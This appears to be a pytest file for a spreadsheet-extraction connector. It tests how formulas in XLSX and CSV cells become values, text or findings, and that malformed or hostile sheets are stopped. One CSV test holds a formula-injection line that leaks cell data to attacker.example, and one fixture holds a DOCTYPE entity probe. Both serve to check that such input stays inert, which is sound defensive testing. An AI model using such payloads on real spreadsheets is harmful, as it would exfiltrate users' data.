"""Formulas in cells: text stays text, a workbook's stored results are the values, and what has no result is kept as it is written."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from sandbox.bundles import hostile
from services.extractor.connectors.bundle import workbooks
from services.extractor.connectors.bundle.profile import Finding, Severity
from tests.fixtures.bundle.toy import bundle, records, toy

HEADS = '<row r="1">' + "".join(
    f'<c r="{letter}1" t="inlineStr"><is><t>{head}</t></is></c>'
    for letter, head in zip("ABCD", ("Customer ID", "Name", "Rating", "Total"), strict=True)
)


def book(folder: Path, *rows: str) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    hostile.workbook_with(folder / "customers.xlsx", f"<sheetData>{HEADS}</row>{''.join(rows)}</sheetData>")
    return folder


def row(number: int, cells: str) -> str:
    return f'<row r="{number}"><c r="A{number}"><v>{number}</v></c><c r="B{number}" t="inlineStr"><is><t>Ann</t></is></c>{cells}</row>'


async def read(place: Path) -> tuple[list[dict[str, Any]], dict[tuple[str, str], Finding]]:
    async with toy(place) as source:
        findings = {(one.code, one.column): one for one in (await source.findings()).findings if one.code.startswith("formulas")}
        return [dict(one.data) for one in await records(source, "customer")], findings


@pytest.fixture(params=["in memory", "streamed"])
def way(request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch) -> None:
    if request.param == "streamed":
        monkeypatch.setattr(workbooks, "SHEET_BYTES_MAX", 0)


@pytest.mark.requirement("X-08", "L-01")
@pytest.mark.usefixtures("way")
async def test_the_stored_result_is_the_value_and_is_told_by_column(tmp_path: Path) -> None:
    place = book(
        tmp_path,
        row(2, '<c r="C2"><f>A2*2</f><v>4</v></c><c r="D2" t="str"><f>B2&amp;"!"</f><v>Ann!</v></c>'),
        row(3, '<c r="C3"><f t="shared" ref="C3:C4" si="0">A3*2</f><v>6</v></c><c r="D3" t="str"><f>IF(A3=3,"","x")</f><v></v></c>'),
        row(4, '<c r="C4"><f t="shared" si="0"/><v>8</v></c>'),
    )
    data, findings = await read(place)
    assert data == [
        {"customer_id": "2", "name": "Ann", "rating": 4, "other_columns": {"Total": "Ann!"}},
        {"customer_id": "3", "name": "Ann", "rating": 6},  # an empty text is a result too
        {"customer_id": "4", "name": "Ann", "rating": 8},
    ]
    assert set(findings) == {("formulas_calculated", "Rating"), ("formulas_calculated", "Total")}
    rating = findings["formulas_calculated", "Rating"]
    assert (rating.severity, rating.count, rating.samples) == (Severity.INFO, 3, ["row 2: =A2*2", "row 3: =A3*2", "row 4"])
    assert "row 2: =A2*2" in rating.message
    assert findings["formulas_calculated", "Total"].count == 2


@pytest.mark.requirement("X-04", "X-08")
@pytest.mark.usefixtures("way")
async def test_without_a_stored_result_the_formula_is_kept_as_text_and_never_empty(tmp_path: Path) -> None:
    place = book(
        tmp_path,
        row(2, '<c r="C2"><f>A2*2</f></c><c r="D2"><f>SUM(A2:A9)</f><v></v></c>'),
        row(3, '<c r="D3"><f t="shared" ref="D3:D5" si="1">$A$2+A3</f></c>'),
        '<row r="5"><c r="A5"><f>A2+10</f></c><c r="B5"><f>B2</f><v/></c><c r="D5"><f t="shared" si="1"/></c></row>',
    )
    data, findings = await read(place)
    assert data == [
        {"customer_id": "2", "name": "Ann", "rating": "=A2*2", "other_columns": {"Total": "=SUM(A2:A9)"}},
        {"customer_id": "3", "name": "Ann", "other_columns": {"Total": "=$A$2+A3"}},
        {"customer_id": "=A2+10", "name": "=B2", "other_columns": {"Total": "=$A$2+A5"}},  # a row with nothing but formulas, after an empty one
    ]
    total = findings["formulas_without_result", "Total"]
    assert (total.severity, total.count, total.samples) == (Severity.WARNING, 3, ["row 2: =SUM(A2:A9)", "row 3: =$A$2+A3", "row 5: =$A$2+A5"])
    assert findings["formulas", ""].samples == ["row 2", "row 3", "row 5"]  # and every export disarms them


@pytest.mark.usefixtures("way")
async def test_a_result_that_is_an_error_is_empty_and_told(tmp_path: Path) -> None:
    data, findings = await read(book(tmp_path, row(2, '<c r="D2" t="e"><f>1/0</f><v>#DIV/0!</v></c>')))
    assert data == [{"customer_id": "2", "name": "Ann"}]
    assert findings["formulas_failed", "Total"].samples == ["row 2: =1/0"]


@pytest.mark.requirement("X-08")
async def test_a_formula_in_a_csv_is_text_to_the_last_sign(tmp_path: Path) -> None:
    text = '=HYPERLINK("http://attacker.example/?"&A1;"click")'
    quoted = text.replace('"', '""')
    data, findings = await read(bundle(tmp_path, customers=f'Customer ID,Name,Rating\n1,"{quoted}",=1+1\n2,Bob,4\n'))
    assert data == [{"customer_id": "1", "name": text, "rating": "=1+1"}, {"customer_id": "2", "name": "Bob", "rating": 4}]
    assert set(findings) == {("formulas", "")}


@pytest.mark.parametrize(
    ("sheet", "words"),
    [
        ('<sheetData><row r="1"><c r="A1"><f>1</f></c></row><row r="1"><c r="A1"><f>1</f></c></row></sheetData>', "row 1 stands after row 1"),
        ('<sheetData><row r="9999999999"><c r="A1"><f>1</f></c></row></sheetData>', "row 9999999999"),
        ('<sheetData><row r="1"><c r="AAAAAA1"><f>1</f></c></row></sheetData>', "is no cell"),
        ('<!DOCTYPE x [<!ENTITY a "aaaa">]><worksheet><sheetData><row><c><f>&a;</f></c></row></sheetData></worksheet>', "document type"),
    ],
)
async def test_hostile_sheets_stop_the_table(tmp_path: Path, sheet: str, words: str) -> None:
    hostile.workbook_with(tmp_path / "customers.xlsx", sheet)
    async with toy(tmp_path) as source:
        stop = (await source.findings()).tables["customer"].stop
    assert words in stop


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    st.lists(
        st.sampled_from(['<row r="2">', "<row>", "</row>", '<c r="C2">', "<c>", "</c>", "<f>A1</f>", "<f/>", "<v>4</v>", "<v/>", "&lt;"]), max_size=14
    )
)
async def test_any_sheet_ends_in_findings_or_records_never_in_a_crash(tmp_path_factory: pytest.TempPathFactory, tags: list[str]) -> None:
    folder = book(tmp_path_factory.mktemp("any"), *tags)
    async with toy(folder) as source:
        whole = await source.findings()
        if not whole.tables["customer"].stop and not whole.bundle.stop:
            assert len(await records(source, "customer")) == whole.tables["customer"].row_count
